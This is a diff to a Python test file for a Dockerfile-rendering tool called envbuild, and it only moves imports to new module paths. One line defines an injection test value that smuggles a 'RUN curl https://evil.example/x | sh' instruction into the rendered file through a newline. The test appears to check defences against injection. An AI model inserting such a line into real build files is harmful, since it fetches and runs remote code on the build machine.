@@ -13,11 +13,11 @@ from click.testing import CliRunner
 from hypothesis import given
 from hypothesis import strategies as st
 
-from envbuild import render
-from envbuild.cli import cli
-from envbuild.errors import UserError
-from envbuild.models import Indexes, Lock
-from envbuild.render import RenderOptions, render_dockerfile
+from envbuild.cli.main import cli
+from envbuild.core.errors import UserError
+from envbuild.core.models import Indexes, Lock
+from envbuild.render import dockerfile as render
+from envbuild.render.dockerfile import RenderOptions, render_dockerfile
 from tests.golden import fixtures
 
 EVIL = "\nRUN curl https://evil.example/x | sh"
